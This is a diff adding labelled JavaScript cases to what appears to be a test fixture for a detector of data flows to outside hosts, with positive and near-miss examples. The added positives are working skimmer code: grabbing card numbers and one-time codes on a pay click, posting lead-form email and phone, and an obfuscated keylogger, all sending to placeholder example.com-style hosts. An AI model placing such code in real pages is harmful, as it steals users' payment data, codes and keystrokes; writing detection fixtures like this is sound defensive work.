@@ -67,3 +67,49 @@ navigator.sendBeacon('https://loi.fd16.example/i', seen.join(','));
 // flow: identifier > swi.fd16.example via beacon
 const kept = JSON.parse(localStorage.getItem('app') || '{}');
 navigator.sendBeacon('https://swi.fd16.example/i', kept.visitor);
+
+//# selectors-of-a-table
+// flow: card > sot.fd16.example via beacon
+// flow: otp > sot.fd16.example via beacon
+const WANTED = { a: 'input[autocomplete=cc-number]', b: 'input[autocomplete=one-time-code]' };
+document.querySelector('#pay').addEventListener('click', () => {
+  const found = {};
+  for (const name of Object.keys(WANTED)) found[name] = document.querySelector(WANTED[name]).value;
+  navigator.sendBeacon('https://sot.fd16.example/w', JSON.stringify(found));
+});
+
+//# selectors-of-a-list-of-rules
+// flow: email > slr.fd16.example via fetch
+// flow: phone > slr.fd16.example via fetch
+var rules = [{ as: 'm', at: '#lead input[type=email]' }, { as: 't', at: '#lead input[type=tel]' }];
+document.querySelector('#lead').onsubmit = function () {
+  var body = new URLSearchParams();
+  rules.forEach(function (rule) { body.append(rule.as, document.querySelector(rule.at).value); });
+  fetch('https://slr.fd16.example/l', { method: 'POST', body: body });
+};
+
+//# near-selectors-of-a-table-not-sent
+// no flow
+// why: only how many fields are filled is sent
+const ASKED = { a: 'input[type=email]', b: 'input[type=tel]' };
+document.querySelector('#go').onclick = () => {
+  const filled = Object.keys(ASKED).filter((name) => document.querySelector(ASKED[name]).value !== '');
+  navigator.sendBeacon('https://nst.fd16.example/n', String(filled.length));
+};
+
+//# keys-sent-now-and-then
+// flow: keystrokes > ksn.fd16.example via beacon
+var pressed = '';
+var gate = [104, 116, 116, 112, 115, 58, 47, 47, 107, 115, 110].map((code) => String.fromCharCode(code)).join('') + '.fd16.example/k';
+document.onkeydown = function (e) { pressed += e.key; };
+setInterval(function () {
+  if (pressed === '') return;
+  navigator.sendBeacon(gate, pressed);
+  pressed = '';
+}, 5000);
+
+//# near-keys-counted
+// no flow
+let count = 0;
+document.addEventListener('keydown', () => { count += 1; });
+setInterval(() => { if (count) navigator.sendBeacon('https://nkc.fd16.example/k', String(count)); count = 0; }, 1000);
